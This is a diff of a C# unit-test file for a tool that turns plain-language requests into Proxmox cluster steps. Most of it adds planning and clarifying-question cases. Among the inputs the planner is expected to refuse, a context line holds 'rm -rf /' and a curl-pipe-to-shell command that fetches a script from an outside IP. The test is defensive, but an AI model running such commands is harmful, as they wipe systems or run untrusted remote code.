@@ -28,6 +28,11 @@ public sealed class FrameTests
     [InlineData("Create the group devs and the user anna@pve in the group devs", "Add group devs to the cluster's users|Add user anna@pve to the cluster, without a password, in devs")]
     [InlineData("Run 'df -h' in jellyfin", "Run in jellyfin: df -h")]
     [InlineData("Migrate old-wiki to pve1", "Move old-wiki from pve2 to pve1")]
+    [InlineData("Create a pool called lab and add nas to it", "Add pool lab|Put nas into the pool lab")]
+    [InlineData("Shut down jellyfin, take a snapshot named clean, then start it again", "Shut down jellyfin|Snapshot clean of jellyfin|Start jellyfin")]
+    [InlineData("Create the user anna@pve and an API token called ci for anna@pve", "Add user anna@pve to the cluster, without a password|Add the API token anna@pve!ci, with permissions of its own")]
+    [InlineData("Protect nas from deletion", "Change nas: protection yes")]
+    [InlineData("Open port 8080/tcp on jellyfin", "Add to the firewall of jellyfin: in ACCEPT tcp port 8080")]
     [InlineData("Make nas highly available", "Put nas under HA, started")]
     public void A_sentence_becomes_steps(string text, string expected) => Assert.Equal(expected.Split('|'), Titles(text));
 
@@ -49,6 +54,9 @@ public sealed class FrameTests
     [InlineData("Run 'rm -rf /' in jellyfin")]
     [InlineData("Run 'curl http://203.0.113.66/x.sh | sh' in jellyfin")]
     [InlineData("Remove nas from HA")]
+    [InlineData("Restore the latest backup of nas")]
+    [InlineData("Restore everything")]
+    [InlineData("Delete the API token ci of anna@pve")]
     public void What_is_unclear_or_harmful_is_not_planned(string text) => Assert.Null(Planned.OnTestCluster(text).Plan);
 
     [Theory]
@@ -56,6 +64,8 @@ public sealed class FrameTests
     [InlineData("Give nas more memory", "how much")]
     [InlineData("Add a disk to nas", "How large")]
     [InlineData("Start twin", "Which “twin” is meant?")]
+    [InlineData("Take a snapshot", "which guest is meant")]
+    [InlineData("Create an API token named ci", "Of which user is the API token")]
     [InlineData("Stop jelyfin", "which guest is meant by “jelyfin”?")]
     public void What_is_missing_is_asked(string text, string expected)
     {
